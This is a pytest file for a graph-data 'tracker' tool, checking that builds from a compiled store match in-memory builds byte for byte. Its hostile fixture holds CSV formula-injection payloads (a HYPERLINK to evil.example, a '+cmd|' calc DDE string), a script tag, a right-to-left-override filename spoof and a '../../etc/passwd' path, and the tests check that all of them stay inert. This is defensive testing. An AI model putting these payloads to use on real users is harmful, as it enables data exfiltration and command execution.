"""`tracker build` on the compiled store (large data) writes the bytes the in-memory build writes.

Above `tracker.query.STORE_ABOVE_BYTES` of relations the build streams its CSV tables from the
store's Parquet tables and computes its reports from the store's arrays, with no Python records
and no networkx graph of the whole data. Here the threshold is moved so that the same data
builds both ways, and every file written is compared byte for byte: on a generated ICIJ-layout
set imported with `tracker import icij` (the scale path: igraph metrics, no view, no graph
files), and on the hostile fixture (formula cells, markup, odd ids; the view and graph files).
"""

from __future__ import annotations

import csv
import io
import os
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import FIXTURES_PATH
from test_hostile import assert_csv_inert

import tracker.export as export
import tracker.pipeline as pipeline
import tracker.query as query
from tracker.cli import cli
from tracker.exc import InvalidData
from tracker.export import store as store_csv
from tracker.store import Store, open_store
from tracker.storegraph import StoreGraph
from tracker.synthetic import generate_icij

HOSTILE = FIXTURES_PATH / "hostile"


@pytest.fixture(scope="module")
def icij_set(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """6,000 generated ICIJ nodes imported as a dataset folder (above the metrics' igraph and view caps)."""
    base = tmp_path_factory.mktemp("icij")
    generate_icij(base / "raw", 6000, seed=11)
    res = CliRunner().invoke(cli, ["import", "icij", str(base / "raw"), "--out", str(base / "data"), "--no-store"])
    assert res.exit_code == 0, res.output
    return base / "data"


def build_both(
    data: Path, out: Path, monkeypatch: pytest.MonkeyPatch, view: bool = True
) -> tuple[pipeline.BuildResult, pipeline.BuildResult]:
    monkeypatch.setattr(query, "STORE_ABOVE_BYTES", 10**15)
    memory = pipeline.run_build([data], out / "memory", view=view)
    assert memory.store is None
    monkeypatch.setattr(query, "STORE_ABOVE_BYTES", 0)
    stored = pipeline.run_build([data], out / "store", view=view)
    assert stored.store is not None
    return memory, stored


def same_files(out: Path) -> list[str]:
    names = sorted(p.name for p in (out / "memory").iterdir())
    assert names == sorted(p.name for p in (out / "store").iterdir())
    for name in names:
        assert (out / "memory" / name).read_bytes() == (out / "store" / name).read_bytes(), name
    return names


def test_generated_set_builds_the_same_files_from_the_store(icij_set: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
    monkeypatch.setattr(export, "BUILD_GRAPH_FILES_MAX_RELATIONS", 1000)  # the scale case: no graph files
    monkeypatch.setattr(store_csv, "SLICE_ROWS", 2500)  # several slices per table, a partial last one
    open_store([icij_set])  # compiled (and validated) first, so that the build below must not load
    monkeypatch.setattr(query, "STORE_ABOVE_BYTES", 0)

    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("the build on the store read the whole data into records")

    # Nor an entity at a time: its attributes are columns (a dict per entity, or a dict of every
    # id, was gigabytes at 10M entities); only the few the tables name are looked up.
    read_one: list[int] = []
    attrs = StoreGraph.attrs

    def one(self: StoreGraph, i: int) -> dict[str, object]:
        read_one.append(i)
        return attrs(self, i)

    with monkeypatch.context() as m:
        m.setattr(pipeline, "load", refuse)
        m.setattr(Store, "whole", refuse)
        m.setattr(StoreGraph, "pos", property(refuse))
        m.setattr(StoreGraph, "attrs", one)
        stored = pipeline.run_build([icij_set], tmp_path / "store")
    assert 0 < len(read_one) <= 200
    monkeypatch.setattr(query, "STORE_ABOVE_BYTES", 10**15)
    memory = pipeline.run_build([icij_set], tmp_path / "memory")
    names = same_files(tmp_path)
    assert names == ["brokers.csv", "centrality.csv", "edges.csv", "jurisdictions.csv", "nodes.csv", "report.html", "sources.csv"]
    assert stored.summary()[:4] == memory.summary()[:4]
    assert [s for s in stored.skipped if not s.startswith("network.html")] == [
        s for s in memory.skipped if not s.startswith("network.html")
    ]
    # The generated set: 6,000 nodes give 6,015 entities (the 15 jurisdictions added), and the
    # edges table has one row per relation plus the header.
    nodes = list(csv.reader(io.StringIO((tmp_path / "store" / "nodes.csv").read_text(encoding="utf-8"), newline="")))
    assert len(nodes) == 6016 and nodes[0][:3] == ["id", "kind", "name"]
    edges = (tmp_path / "store" / "edges.csv").read_bytes()
    assert edges.count(b"\r\n") >= stored.graph.number_of_edges() + 1 > 9000


def test_hostile_cells_stay_inert_and_identical_on_the_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
    memory, stored = build_both(HOSTILE, tmp_path, monkeypatch)
    names = same_files(tmp_path)
    assert "graph.graphml" in names and "network.html" in names  # small: the graph files and the view too
    for name in ("nodes.csv", "edges.csv", "sources.csv", "centrality.csv"):
        assert_csv_inert(tmp_path / "store" / name)
    nodes = {r["id"]: r for r in csv.DictReader(io.StringIO((tmp_path / "store" / "nodes.csv").read_text(encoding="utf-8"), newline=""))}
    assert nodes["x-formula"]["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert nodes["x-formula"]["aliases"] == "'+cmd|' /C calc'!A0;-2+3;@SUM(1+1)"
    assert nodes["x-script"]["name"] == "<script>window.__pwned=1</script>Evil Name"  # CSV keeps text; the page escapes it
    page = (tmp_path / "store" / "report.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;Evil Name" in page and "<script>window" not in page
    assert stored.summary()[0] == memory.summary()[0]


def test_the_python_path_of_a_slice_writes_the_same_bytes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A slice whose lines SQL cannot make exactly (a number in exponent form) is written cell by cell in Python."""
    from tracker.dataset import load
    from tracker.export.tables import write_csv
    from tracker.graph import build

    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
    store = open_store([HOSTILE])
    write_csv(build(load([HOSTILE])), tmp_path / "memory", all_sources=True)
    monkeypatch.setattr(store_csv, "_lines", lambda *_: None)
    monkeypatch.setattr(store_csv, "SLICE_ROWS", 4)
    store_csv.write_store_csv(store, tmp_path / "store")
    same_files(tmp_path)


def test_a_number_sql_writes_in_exponent_form_falls_back_to_python(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
    store = open_store([HOSTILE])
    con = store.sql
    for macro in store_csv._MACROS:
        con.execute(macro)
    texts = con.execute("SELECT _csv_number(x) FROM (SELECT unnest([70.5, 20.0, -5.0, 0.00001, 1e20, NULL]) AS x)").fetchall()
    # format_number gives '70.5', '20', '-5', '0.00001', '100000000000000000000', '': the last
    # two numbers DuckDB would write as 1e-05 and 1e+20, so the SQL path hands them over (NULL).
    assert [t for (t,) in texts] == ["70.5", "20", "-5", None, None, ""]


def test_invalid_data_stops_the_store_build_before_writing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
    bad = tmp_path / "bad"
    bad.mkdir()
    for p in HOSTILE.iterdir():
        (bad / p.name).write_bytes(p.read_bytes())
    with (bad / "relations.csv").open("a", encoding="utf-8", newline="") as fh:
        fh.write("r-dangling,owns,x-formula,nobody-here," + "," * 16 + "\r\n")
    monkeypatch.setattr(query, "STORE_ABOVE_BYTES", 10**15)
    with pytest.raises(InvalidData) as in_memory:
        pipeline.run_build([bad], tmp_path / "memory")
    monkeypatch.setattr(query, "STORE_ABOVE_BYTES", 0)
    with pytest.raises(InvalidData) as on_store:
        pipeline.run_build([bad], tmp_path / "out")
    assert str(on_store.value) == str(in_memory.value)
    # The dangling target and the missing source: the loader's message, the first error spelt out.
    assert str(on_store.value) == "2 errors in the data; first: relations.csv:8: sources: error [required] is empty; it is required"
    assert not (tmp_path / "out").exists() and not (tmp_path / "memory").exists()


def test_lines_come_back_in_key_order_whatever_order_duckdb_gives() -> None:
    """`_lines` sorts a slice's lines by their key when the engine returned them in another order."""
    import pyarrow as pa

    class Rel:
        def __init__(self, table: pa.Table) -> None:
            self.table = table

        def to_arrow_table(self) -> pa.Table:
            return self.table

    class Con:
        def __init__(self, table: pa.Table) -> None:
            self.table = table

        def sql(self, *_: object, **__: object) -> Rel:
            return Rel(self.table)

    shuffled = pa.table({"line": ["c\r\n", "a\r\n", "b\r\n"], "bad": [False, False, False], "_k": [7, 2, 5]})
    assert store_csv._lines(Con(shuffled), "", {}).to_pylist() == ["a\r\n", "b\r\n", "c\r\n"]
    in_order = pa.table({"line": ["x\r\n", "y\r\n"], "bad": [False, False], "_k": [1, 3]})
    assert store_csv._lines(Con(in_order), "", {}).to_pylist() == ["x\r\n", "y\r\n"]
    flagged = pa.table({"line": ["x\r\n", "y\r\n"], "bad": [False, True], "_k": [1, 3]})
    assert store_csv._lines(Con(flagged), "", {}) is None  # a number SQL cannot write: the Python path
    out = io.BytesIO()
    store_csv._write_bytes(out, store_csv._lines(Con(shuffled), "", {}))
    assert out.getvalue() == b"a\r\nb\r\nc\r\n"


def _parallel(monkeypatch: pytest.MonkeyPatch) -> None:
    """The CSV tables by a second process whatever the size and the machine; never in this one."""
    monkeypatch.setattr(pipeline, "PARALLEL_CSV_MIN_RELATIONS", 0)
    monkeypatch.setattr(pipeline, "_cores", lambda: 2)

    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("the CSV tables were written in the build's own process")

    monkeypatch.setattr(store_csv, "write_store_csv", refuse)
    # Something the child prints on its stdout (DuckDB's progress bar did) must not garble its answer.
    monkeypatch.setattr(pipeline, "_CHILD_CODE", "print('noise on stdout'); " + pipeline._CHILD_CODE)


def test_csv_tables_written_by_a_second_process_are_the_same_bytes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
    monkeypatch.setattr(query, "STORE_ABOVE_BYTES", 10**15)
    memory = pipeline.run_build([HOSTILE], tmp_path / "memory")
    _parallel(monkeypatch)
    monkeypatch.setattr(query, "STORE_ABOVE_BYTES", 0)
    stored = pipeline.run_build([HOSTILE], tmp_path / "store")
    names = same_files(tmp_path)
    assert {"nodes.csv", "edges.csv", "sources.csv", "centrality.csv"} <= set(names)
    assert stored.summary()[:4] == memory.summary()[:4]
    # The files in the order the in-memory build lists them.
    assert [p.name for p in stored.files] == [p.name for p in memory.files]


def test_a_failure_of_the_second_process_fails_the_build(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from tracker.exc import OutputError

    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
    _parallel(monkeypatch)
    monkeypatch.setattr(query, "STORE_ABOVE_BYTES", 0)
    (tmp_path / "out" / "edges.csv").mkdir(parents=True)  # the child cannot write edges.csv
    with pytest.raises(OutputError) as failed:
        pipeline.run_build([HOSTILE], tmp_path / "out")
    assert str(failed.value) == f"{tmp_path / 'out' / 'edges.csv'}: is a folder, expected a file path"


def test_a_child_process_that_dies_without_answering_fails_the_build_in_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Killed out of memory, say: no answer file is written, and the build says which part failed.
    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
    _parallel(monkeypatch)
    monkeypatch.setattr(query, "STORE_ABOVE_BYTES", 0)
    monkeypatch.setattr(pipeline, "_CHILD_CODE", "import os; os._exit(3); " + pipeline._CHILD_CODE)
    with pytest.raises(pipeline.TrackerError) as failed:
        pipeline.run_build([HOSTILE], tmp_path / "out")
    assert str(failed.value) == "computing the metrics failed: the child process ended with status 3"
    assert not list(tmp_path.glob("out/*.csv.*"))  # no half-written table left behind


_PARENT = """
import sys, time
import tracker.pipeline as p
# The child: the real `_child_main`, its work a minute's sleep (a CSV table being written).
p._CHILD_CODE = (
    "import sys, time; sys.path.insert(0, sys.argv[1]); import tracker.pipeline as p; "
    "p._child_main(lambda job, done: time.sleep(60), 'sleeping')"
)
child = p._Child("_csv_child", {}, "sleeping", "test", "test")
print(child.child.pid, child.answer, flush=True)
time.sleep(60)
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the parent-death signal is Linux's")
def test_a_killed_builds_children_end_with_it(tmp_path: Path) -> None:
    """A build killed outright (SIGKILL: no code of its own runs) takes its child processes with it."""
    import os
    import signal
    import subprocess
    import time

    root = str(Path(pipeline.__file__).resolve().parent.parent)
    build = subprocess.Popen([sys.executable, "-c", _PARENT], stdout=subprocess.PIPE, text=True, cwd=root)
    assert build.stdout is not None
    pid_text, answer = build.stdout.readline().split()
    pid = int(pid_text)
    time.sleep(1.0)  # the child is up, asleep in its work
    assert _running(pid)
    build.kill()
    build.wait()
    deadline = time.monotonic() + 20
    while _running(pid) and time.monotonic() < deadline:
        time.sleep(0.1)
    alive = _running(pid)
    if alive:
        os.kill(pid, signal.SIGKILL)
    assert not alive, "the child went on after its build was killed"
    assert not Path(answer).exists()  # nor left its answer file behind


def test_a_child_whose_build_is_gone_before_it_starts_does_no_work(tmp_path: Path) -> None:
    """A build that dies before its child asked to end with it (`_die_with_parent` is False: the
    child's parent is no longer the build) leaves a child that does nothing and removes its
    answer file: no one would read the answer, and the work could be minutes of writing."""
    import json
    import subprocess

    root = str(Path(pipeline.__file__).resolve().parent.parent)
    answer, ran = tmp_path / "answer.pickle", tmp_path / "ran"
    answer.write_bytes(b"")  # (`_Child` makes it before the child starts)
    code = (
        "import sys, pathlib; sys.path.insert(0, sys.argv[1]); import tracker.pipeline as p; "
        f"p._child_main(lambda job, done: pathlib.Path({str(ran)!r}).write_text('ran'), 'testing')"
    )
    gone = 1 if os.getpid() != 1 else 2  # a build's process id that is not this child's parent (this process)
    job = {"answer": str(answer), "parent": gone}
    subprocess.run([sys.executable, "-c", code, root, json.dumps(job), "unused"], check=True, timeout=120)
    assert not ran.exists()
    assert not answer.exists()


def _running(pid: int) -> bool:
    """Whether process `pid` exists and is not a zombie (an ended child no one has reaped)."""
    try:
        status = Path(f"/proc/{pid}/status").read_text(encoding="utf-8")
    except OSError:
        return False
    return "\nState:\tZ" not in status


def test_an_entity_is_found_by_its_id_without_a_dict_of_every_id() -> None:
    graph = StoreGraph.__new__(StoreGraph)  # only its ids: what `position` reads
    graph.ids = ["a", "b", "b2", "c"]
    assert [graph.position(x) for x in ("a", "b2", "c", "b1", "d", "", 3)] == [0, 2, 3, None, None, None, None]
    assert "pos" not in graph.__dict__
    # Ids out of Python's order (a store never has them) are still found, by a dict.
    graph = StoreGraph.__new__(StoreGraph)
    graph.ids = ["b", "a", "c"]
    assert [graph.position(x) for x in ("a", "b", "c", "d")] == [1, 0, 2, None]


def test_slices_look_names_and_one_source_up_by_position(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each slice takes its end names and its one source's citation by position (`_Lookups`), not by a join of the whole tables."""
    from tracker.dataset import load
    from tracker.export.tables import write_csv
    from tracker.graph import build

    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
    store = open_store([HOSTILE])
    look = store_csv._Lookups(store, store.sql)
    # hostile/relations.csv in id order h1..h6 cites s-evil; s-ok and s-evil; s-ok; s-ok; s-evil;
    # s-evil, and sources.parquet holds s-evil then s-ok: one source's position, -1 for two.
    assert look.first_source("relations", "ridx", 6).tolist() == [0, -1, 1, 1, 0, 0]
    assert look.first_source("entities", "idx", store.entity_count).tolist() == [-1] * store.entity_count  # no entity cites one
    part = look.slice_table("relations", "ridx", 6, 1, 3).to_pylist()  # h2 (two sources: no text here) and h3
    assert [(r["k"], r["a_name"], r["b_name"]) for r in part] == [
        (1, '=HYPERLINK("http://evil.example/?"&A1,"click")', "Invoice \u202egnp.exe Holdings"),
        (2, "Invoice \u202egnp.exe Holdings", "../../etc/passwd"),
    ]
    assert part[0]["cite"] is None and part[1]["cite"].startswith("Plain title")
    # Slices of two lines: every slice looks its texts up again, with the same bytes.
    write_csv(build(load([HOSTILE])), tmp_path / "memory", all_sources=True)
    monkeypatch.setattr(store_csv, "SLICE_ROWS", 2)
    store_csv.write_store_csv(store, tmp_path / "store")
    same_files(tmp_path)


def test_metrics_of_the_second_process_are_the_same_floats(icij_set: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Betweenness, harmonic and closeness (igraph, sampled: 6,015 entities) from the metrics'
    process are this process's floats bit for bit, and the build writes the same files with it."""
    import numpy as np

    from tracker.metrics import METRICS, Views, resolve_engine
    from tracker.model import load_model
    from tracker.store import edge_table

    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
    store = open_store([icij_set])
    beside = pipeline._MetricsBeside(store)
    try:
        got = {name: call() for name, call in beside.outside().items()}
    finally:
        beside.stop()
    views = Views(None, resolve_engine("auto", store.entity_count), edge_table(store)).ties(load_model(), False)
    assert views.engine == "igraph"
    assert sorted(got) == ["betweenness", "closeness", "harmonic"]
    for name, (columns, notes) in got.items():
        mine, my_notes = METRICS[name].compute(views, {"include_meta": False})
        assert notes == my_notes
        assert any(f in str(notes) for f in ("k=500 of 6015", "sample of 500 of 6015")), notes
        (values,) = columns.values()
        (expected,) = mine.values()
        assert np.asarray(values).dtype == np.float64
        assert np.asarray(values).tobytes() == np.asarray(expected).tobytes(), name
        assert np.count_nonzero(np.asarray(values) > 0) > 100, name

    monkeypatch.setattr(export, "BUILD_GRAPH_FILES_MAX_RELATIONS", 1000)
    monkeypatch.setattr(query, "STORE_ABOVE_BYTES", 10**15)
    pipeline.run_build([icij_set], tmp_path / "memory")
    _parallel(monkeypatch)
    monkeypatch.setattr(query, "STORE_ABOVE_BYTES", 0)
    started: list[object] = []
    real = pipeline._MetricsBeside

    def spy(store: object) -> object:
        started.append(store)
        return real(store)

    monkeypatch.setattr(pipeline, "_MetricsBeside", spy)
    pipeline.run_build([icij_set], tmp_path / "store")
    assert len(started) == 1
    assert "centrality.csv" in same_files(tmp_path)


@pytest.mark.parametrize("table", ["centrality", "brokers"])
def test_report_on_the_store_reads_the_entities_as_columns(table: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`tracker report` on the store: the same table as in memory, with no entity read one at a
    time (a dict per entity and column: about 30 s of CPU at 10M entities)."""
    from conftest import MINI_PATH

    import tracker.store as store_module

    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
    args = ["report", "--table", table, "--format", "csv", "--data", str(MINI_PATH)]
    memory = CliRunner().invoke(cli, [*args, "--engine", "networkx"])

    def refuse(*_: object) -> None:
        raise AssertionError("an entity read one at a time")

    monkeypatch.setattr(store_module._NodeView, "__getitem__", refuse)
    stored = CliRunner().invoke(cli, [*args, "--engine", "duckdb"])
    assert memory.exit_code == 0, memory.output
    assert stored.exit_code == 0, stored.output
    assert stored.stdout == memory.stdout
    assert stored.stdout.count("\n") > 10


def test_a_view_that_refuses_the_graph_leaves_no_link_to_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The view may refuse a graph within the build's entity cap (`ViewTooLarge` from the view
    itself): then no network.html is written, so the report's names must not link into it, and
    the page says why, on both build paths."""
    import tracker.views as views
    from tracker.exc import ViewTooLarge

    def refuse(*_: object, **__: object) -> str:
        raise ViewTooLarge("41 relations is over the view's cap of 40 <test>")

    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
    monkeypatch.setattr(views, "render_view", refuse)
    memory, stored = build_both(HOSTILE, tmp_path, monkeypatch)
    names = same_files(tmp_path)
    assert "report.html" in names and "network.html" not in names
    page = (tmp_path / "store" / "report.html").read_text(encoding="utf-8")
    assert "network.html#focus" not in page and 'class="ent"' not in page
    assert "(<code>network.html</code>: 41 relations is over the view&#x27;s cap of 40 &lt;test&gt;); draw an" in page
    for result in (memory, stored):
        assert "network.html: 41 relations is over the view's cap of 40 <test>" in result.skipped
        assert [p.name for p in result.files if p.name == "network.html"] == []
    # Without the refusal the same data links its names into the view it writes.
    monkeypatch.undo()
    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
    build_both(HOSTILE, tmp_path / "again", monkeypatch)
    assert 'class="ent" href="network.html#focus=' in (tmp_path / "again" / "store" / "report.html").read_text(encoding="utf-8")


def test_the_metrics_process_reads_no_entity_id_at_scale(icij_set: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Sampled on igraph (6,015 entities), the metrics' process gives arrays in id order and reads
    only how many entities there are, not their ids (about 300 MB of text at 2M entities), and its
    floats are those computed with the ids, bit for bit."""
    import json
    import pickle
    import sys

    import numpy as np

    from tracker.metrics import METRICS, Views, resolve_engine
    from tracker.model import load_model
    from tracker.store import edge_table

    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
    store = open_store([icij_set])
    views = Views(None, resolve_engine("auto", store.entity_count), edge_table(store)).ties(load_model(), False)
    expected = {name: METRICS[name].compute(views, {"include_meta": False}) for name in pipeline.METRICS_BESIDE}

    def refuse(*_: object) -> None:
        raise AssertionError("the entity ids read")

    monkeypatch.setattr(Store, "ids", refuse)
    job = {"store": str(store.root), "metrics": list(pipeline.METRICS_BESIDE), "answer": str(tmp_path / "answer.pickle")}
    monkeypatch.setattr(sys, "argv", ["-c", "", json.dumps(job), "_metrics_child"])
    pipeline._metrics_child()  # the child's side, in this process
    with open(tmp_path / "answer.pickle", "rb") as fh:
        status, value, stages = pickle.load(fh)
    assert status == "ok", value
    assert [s[0] for s in stages] == ["relation arrays", "betweenness", "harmonic", "closeness"]
    for name, (columns, notes) in value.items():
        (got,) = columns.values()
        (want,) = expected[name][0].values()
        assert notes == expected[name][1]
        assert np.asarray(got).dtype == np.float64 and np.asarray(got).tobytes() == np.asarray(want).tobytes(), name


def test_the_store_build_reads_the_entity_columns_after_the_metrics(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The build's own process reads the entity columns (about 500 MB at 2M entities) when the
    first table is made, after every metric, and lets the ties' graphs go before (both sat
    together through the build's peak)."""
    import dataclasses
    import gc
    import weakref
    from functools import cached_property
    from typing import Any

    import tracker.metrics as metrics

    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
    log: list[str] = []
    seen: list[weakref.ref[Any]] = []
    for name, metric in list(metrics.METRICS.items()):

        def compute(v: Any, opts: dict[str, Any], _real: Any = metric.compute, _name: str = name) -> Any:
            seen.append(weakref.ref(v))
            log.append(_name)
            return _real(v, opts)

        monkeypatch.setitem(metrics.METRICS, name, dataclasses.replace(metric, compute=compute))
    real_frame = metrics._frame

    def frame(*args: Any, **kwargs: Any) -> Any:
        gc.collect()
        log.append(f"table made, ties' views alive: {sum(r() is not None for r in seen)}")
        return real_frame(*args, **kwargs)

    monkeypatch.setattr(metrics, "_frame", frame)
    real_cols = StoreGraph.__dict__.get("_cols")

    def cols(self: StoreGraph) -> Any:
        log.append("entity columns read")
        return real_cols.func(self) if real_cols is not None else {}

    spy = cached_property(cols)
    spy.__set_name__(StoreGraph, "_cols")
    monkeypatch.setattr(StoreGraph, "_cols", spy, raising=False)
    monkeypatch.setattr(query, "STORE_ABOVE_BYTES", 0)
    pipeline.run_build([HOSTILE], tmp_path / "out", view=False)
    assert log[:10] == [*metrics.METRICS, "table made, ties' views alive: 0", "entity columns read"], log
    assert log.count("entity columns read") == 1, log


def test_each_stage_of_a_store_build_gives_arrow_memory_back(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each stage's end, in the build's own process and in its child processes, returns what
    Arrow's allocator freed (about 300 MB after the 2M relation table) before the next stage."""
    import json
    import pickle
    import sys
    from typing import Any

    events: list[str] = []

    class Log:
        def info(self, text: str, *args: Any) -> None:
            if text.startswith("build: "):
                events.append("stage " + str(args[0]))

    monkeypatch.setattr(pipeline, "log", Log())
    monkeypatch.setattr(pipeline, "_give_back", lambda: events.append("given back"))
    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
    monkeypatch.setattr(query, "STORE_ABOVE_BYTES", 0)
    pipeline.run_build([HOSTILE], tmp_path / "out", view=False)
    stages = [e for e in events if e.startswith("stage ")]
    assert "stage centrality" in stages and "stage report files" in stages
    assert events == [x for stage in stages for x in ("given back", stage)], events

    # A child process's stages (the CSV tables', the metrics'): the same.
    events.clear()

    def work(job: dict[str, Any], done: Any) -> str:
        done("first")
        events.append("between")
        done("second")
        return "answer"

    job = {"answer": str(tmp_path / "answer.pickle")}
    monkeypatch.setattr(sys, "argv", ["-c", "", json.dumps(job), "work"])
    pipeline._child_main(work, "working")
    with open(tmp_path / "answer.pickle", "rb") as fh:
        status, value, stages_done = pickle.load(fh)
    assert (status, value, [s[0] for s in stages_done]) == ("ok", "answer", ["first", "second"])
    assert events == ["given back", "between", "given back"]


def test_a_neighbourhood_over_the_cap_is_refused_before_it_is_cut_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """On the store, a neighbourhood's entities are counted by the walk before its records are
    read: above `MAX_EXTRACT` the question is refused at once, in one line (on a generated PSC
    register of full size a hub's 2-hop neighbourhood, 712,026 entities, took 6 minutes and 18 GB)."""
    import json

    from conftest import MINI_PATH

    import tracker.query as query

    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
    args = ["neighbours", "beta-daughter", "--depth", "2", "--format", "json", "--data", str(MINI_PATH)]
    memory = CliRunner().invoke(cli, [*args, "--engine", "networkx"])
    assert memory.exit_code == 0, memory.output
    expected = sorted(n["id"] for n in json.loads(memory.stdout)["neighbours"])
    assert len(expected) == 9  # beta-daughter and 9 others: 10 entities
    monkeypatch.setattr(query, "MAX_EXTRACT", 10)
    at_cap = CliRunner().invoke(cli, [*args, "--engine", "duckdb"])
    assert at_cap.exit_code == 0, at_cap.output
    assert sorted(n["id"] for n in json.loads(at_cap.stdout)["neighbours"]) == expected
    monkeypatch.setattr(query, "MAX_EXTRACT", 9)
    over = CliRunner().invoke(cli, [*args, "--engine", "duckdb"])
    assert over.exit_code == 1
    assert over.stdout == ""
    assert over.stderr.splitlines()[-1] == (
        "Error: beta-daughter: 10 entities within 2 hops (counting itself), "
        "over the cap of 9 a neighbourhood is cut out of the store with; ask for --depth 1"
    )
    # One hop: beta-daughter and its 4 neighbours; fewer hops is no answer then.
    monkeypatch.setattr(query, "MAX_EXTRACT", 4)
    one_hop = CliRunner().invoke(cli, [*args[:2], "--depth", "1", *args[4:], "--engine", "duckdb"])
    assert one_hop.exit_code == 1
    assert one_hop.stderr.splitlines()[-1] == (
        "Error: beta-daughter: 5 entities within 1 hop (counting itself), "
        "over the cap of 4 a neighbourhood is cut out of the store with; start from one of its neighbours"
    )
